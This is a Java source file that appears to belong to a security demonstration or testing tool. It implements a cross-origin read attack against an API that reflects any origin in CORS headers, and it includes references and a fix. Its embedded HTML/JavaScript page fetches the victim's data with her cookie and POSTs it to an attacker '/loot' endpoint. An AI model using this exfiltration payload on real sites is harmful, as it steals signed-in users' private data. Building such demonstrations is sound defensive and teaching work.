package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Reads with the victim's session from a page of another origin. */
@AutoService(Attack.class)
public final class CrossOriginRead implements Attack {
  private static final String PAGE = "/";
  private static final String LOOT = "/loot";
  private static final Pattern FETCH = Pattern.compile("fetch\\(\"([^\"]+)\"");

  @Override
  public AttackCard card() {
    return new AttackCard(
        "cross-origin-read",
        "Read by a page of another origin",
        AttackGroup.WIRE,
        "A script in a page of the attacker fetches Alice's events from the API and sends him what it reads.",
        "A page of the same site, such as another port of the host, that Alice opens while she is signed in.",
        "The browser adds Alice's cookie, and the server names whatever origin asks as one that may read the answer.",
        "reflect-origin",
        List.of("WHATWG Fetch, CORS protocol", "OWASP API8:2023", "CWE-942"),
        "Name in Access-Control-Allow-Origin only origins from a list of your own, and allow credentials to few of them, best none.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String cookie = BrowserSession.cookieOfVictim(target);
    try (AttackerSite site = new AttackerSite()) {
      site.serve(PAGE, "text/html;charset=utf-8", page(target));
      site.serve(LOOT, "text/plain", "");
      String fetched = fetched(BrowserSession.open(target, site, PAGE));
      Draft fetch =
          new Draft("GET", fetched, List.of(), new byte[0])
              .withHeader("Origin", site.origin())
              .withHeader("Sec-Fetch-Site", "same-site")
              .withHeader("Sec-Fetch-Mode", "cors")
              .withHeader("Sec-Fetch-Dest", "empty");
      Hop answer =
          target.send(
              BrowserSession.BROWSER,
              "The page's script fetches her events, and the browser adds her cookie.",
              BrowserSession.with(cookie, fetch));
      if (isShownTo(site.origin(), answer)) {
        target.send(
            BrowserSession.BROWSER,
            "The script sends the attacker what it has read.",
            new Draft("POST", site.origin() + LOOT, List.of(), answer.body()));
      }
      boolean gained = site.received(LOOT).filter(Events::haveTitles).isPresent();
      return target.end(gained, Events.GAIN);
    }
  }

  private static String page(Target target) {
    return "<!DOCTYPE html><script>fetch(\"%s\", {credentials: \"include\"})"
            .formatted(target.base().resolve(Events.VICTIMS))
        + ".then(answer => answer.text()).then(text => fetch(\"%s\", {method: \"POST\", body: text}))</script>"
            .formatted(LOOT);
  }

  /** What a browser that runs the page's script fetches first. */
  private static String fetched(String page) {
    Matcher call = FETCH.matcher(page);
    return call.find() ? call.group(1) : "";
  }

  /** Whether a browser hands this answer to a page of that origin (WHATWG Fetch, CORS check). */
  private static boolean isShownTo(String origin, Hop answer) {
    return answer.header("Access-Control-Allow-Origin").filter(origin::equals).isPresent()
        && answer.header("Access-Control-Allow-Credentials").filter("true"::equals).isPresent();
  }
}
